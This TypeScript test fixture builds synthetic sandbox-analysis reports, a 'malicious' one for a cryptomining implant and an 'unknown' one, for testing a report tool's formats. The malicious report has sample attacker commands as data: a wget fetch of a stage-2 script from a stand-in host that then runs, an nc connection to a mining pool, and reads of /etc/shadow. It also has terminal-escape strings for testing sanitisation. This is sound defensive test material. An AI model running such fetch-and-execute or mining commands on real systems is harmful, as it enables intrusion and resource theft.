import { Report } from "@airlock/contracts";
import { benignReport, dropped, file, finding, process } from "./report-parts.fixture.ts";

/** Documents for tests of every format, validated like real ones: quiet, rich and hostile, and one that proves nothing. */
export { benignReport, process };

const DIGEST = `sha256:${"ab12".repeat(16)}`;

/** An implant caught in the act, in a run whose record has holes as well. */
export function maliciousReport(): Report {
  const base = benignReport();
  return Report.parse({
    ...base,
    image: {
      ...base.image,
      reference: "registry.example.com:5000/team/implant:1.2.3",
      digest: DIGEST,
      digestKind: "manifest",
      manifestDigest: DIGEST,
    },
    run: { ...base.run, outcome: { kind: "exited", code: 0, signal: null } },
    coverage: {
      ...base.coverage,
      sensors: base.coverage.sensors.map((sensor) =>
        sensor.name === "capture" ? { ...sensor, aliveAtEnd: false, detail: "tcpdump ended with status 1" } : sensor,
      ),
      counted: 912_345,
      delivered: 900_001,
      suppressed: 12_300,
      dropped: 44,
      classes: { bulk: { counted: 912_000, delivered: 899_656, suppressed: 12_300, dropped: 44 } },
      truncated: ["capture"],
      limits: [{ limit: "memory", bound: 1 << 30, affectedSample: true, detail: "one process was killed" }],
      frozenMs: 120,
    },
    verdict: {
      level: "malicious",
      score: 99.6,
      reasons: [
        { code: "events-dropped", detail: "44 events were lost" },
        { code: "sensor-died", detail: "capture: tcpdump ended with status 1" },
      ],
    },
    findings: [
      finding("recon-burst", "Many questions about the host in a short time", "low", 5, ["T1082"], ["discovery"]),
      finding(
        "stratum-handshake",
        "Mining protocol spoken to a pool",
        "critical",
        90,
        ["T1496.001"],
        ["TA0040"],
        [["e812", 'tcp to pool.minexmr.test:3333 {"id":1,"method":"mining.subscribe","params":["xmrig/6.21"]}']],
      ),
      finding(
        "downloaded-file-executed",
        "File that was downloaded in this run is executed",
        "high",
        50,
        ["T1105", "T1204.003"],
        ["command-and-control", "execution"],
        [
          ["e211", "/tmp/.cache/stage2.sh executed by /bin/sh, written by /bin/wget from http://cdn.example/stage2.sh"],
          ["e207", `GET http://cdn.example/stage2.sh?${"k=v&".repeat(60)}`],
          ["e206", "cdn.example A → 10.0.0.99"],
          ["e205", "wget -q -O /tmp/.cache/stage2.sh http://cdn.example/stage2.sh"],
          ["e204", "five is one too many to show"],
        ],
      ),
      finding(
        "hostile-title",
        "Tïtle with \u001b]0;pwned\u0007 and \u202eoverride | pipe `tick` <b>",
        "medium",
        20,
        [],
        [],
      ),
    ],
    processes: maliciousProcesses(),
    files: [
      file("/etc/crontabs/root", ["created", "written"], "upper", 64),
      file("/root/.ash_history", ["deleted"], "image", 0),
      file("/etc/shadow", ["read"], "image", 0),
    ],
    droppedFiles: [
      dropped("/tmp/.cache/stage2.sh", "added", "script", 312),
      dropped(`/var/lib/${"very-long-name/".repeat(12)}payload.bin`, "added", "elf", 2_400_000),
      dropped("/etc/passwd", "changed", "text", 1024),
    ],
    network: {
      dns: [
        { name: "cdn.example", type: "A", answers: ["10.0.0.99"], process: "100:12", count: 1 },
        { name: "pool.minexmr.test", type: "AAAA", answers: [], process: "100:14", count: 3 },
      ],
      http: [
        { method: "GET", url: "http://cdn.example/stage2.sh", userAgent: "Wget", status: 200, process: "100:12" },
        {
          method: "POST",
          url: `http://10.9.8.7:8443/${"x".repeat(200)}`,
          userAgent: "curl/8",
          status: null,
          process: null,
        },
      ],
      tls: [
        {
          serverName: "c2.example",
          address: "10.0.0.98",
          port: 443,
          ja3: "e7d705a3286e19ea42f587b344ee6865",
          process: "100:13",
        },
      ],
      flows: [
        {
          protocol: "tcp",
          address: "10.0.0.97",
          port: 3333,
          hostname: "pool.minexmr.test",
          application: "stratum",
          packets: 9,
          bytesSent: 1532,
          bytesReceived: 80,
          process: "100:14",
        },
        {
          protocol: "udp",
          address: "fd00::53",
          port: 53,
          hostname: null,
          application: "dns",
          packets: 2,
          bytesSent: 60,
          bytesReceived: 90,
          process: null,
        },
      ],
      listeners: [{ protocol: "tcp", address: "0.0.0.0", port: 31337, exposed: false, process: "100:13" }],
    },
    output: {
      stdout: { text: "starting app v1.2.3\r\nready \u001b[31mred\u001b[0m \u009b2J\n", bytes: 44, truncated: false },
      stderr: { text: "line\n".repeat(40), bytes: 5_000_000, truncated: true },
    },
    artifacts: [
      { name: "capture.pcap", bytes: 4096, sha256: "00".repeat(32), mediaType: "application/vnd.tcpdump.pcap" },
    ],
    omitted: { processes: 1200 },
  });
}

/** Nothing bad was seen, and that proves nothing. */
export function unknownReport(): Report {
  const base = benignReport();
  return Report.parse({
    ...base,
    run: { ...base.run, outcome: { kind: "never-started", code: 127, signal: null } },
    coverage: {
      ...base.coverage,
      counted: 0,
      delivered: 0,
      suppressed: 0,
      entrypoints: [{ ...base.coverage.entrypoints[0], exercised: false }],
    },
    verdict: {
      level: "unknown",
      score: 0,
      reasons: [{ code: "never-started", detail: "no program of the image was ever executed" }],
    },
    processes: [],
    network: { ...base.network, listeners: [] },
    output: { stdout: { text: "", bytes: 0, truncated: false }, stderr: { text: "", bytes: 0, truncated: false } },
  });
}

function maliciousProcesses(): Report["processes"] {
  return [
    process({
      key: "100:10",
      pid: 1,
      image: "/bin/sh",
      commandLine: "/bin/sh /entry.sh",
      exitCode: 0,
      endedAtMs: 7000,
    }),
    process({
      key: "100:12",
      parent: "100:10",
      pid: 17,
      image: "/bin/wget",
      commandLine: "wget -q -O /tmp/.cache/stage2.sh http://cdn.example/stage2.sh",
      exitCode: 0,
      endedAtMs: 900,
      startedAtMs: 800,
    }),
    process({
      key: "100:13",
      parent: "100:10",
      pid: 19,
      image: "/tmp/.cache/stage2.sh",
      origin: "upper",
      commandLine: `/tmp/.cache/stage2.sh --key ${"A".repeat(300)}`,
      startedAtMs: 1000,
      sha256: "cd".repeat(32),
    }),
    process({
      key: "100:14",
      parent: "100:13",
      pid: 20,
      image: "/bin/nc",
      commandLine: "nc pool.minexmr.test 3333",
      signal: "SIGKILL",
      endedAtMs: 8000,
      startedAtMs: 1100,
    }),
    ...[21, 22, 23].map((pid) =>
      process({
        key: `100:${pid}`,
        parent: "100:13",
        pid,
        image: "/bin/sleep",
        commandLine: "sleep 1",
        exitCode: 0,
        endedAtMs: 2000,
        startedAtMs: 1200 + pid,
      }),
    ),
    process({
      key: "100:30",
      parent: "100:10",
      pid: 30,
      image: "memfd:x",
      origin: "memfd",
      commandLine: "[kworker/0:1] \u001b[2J",
      exitCode: 1,
      endedAtMs: 4000,
      startedAtMs: 3000,
    }),
  ];
}
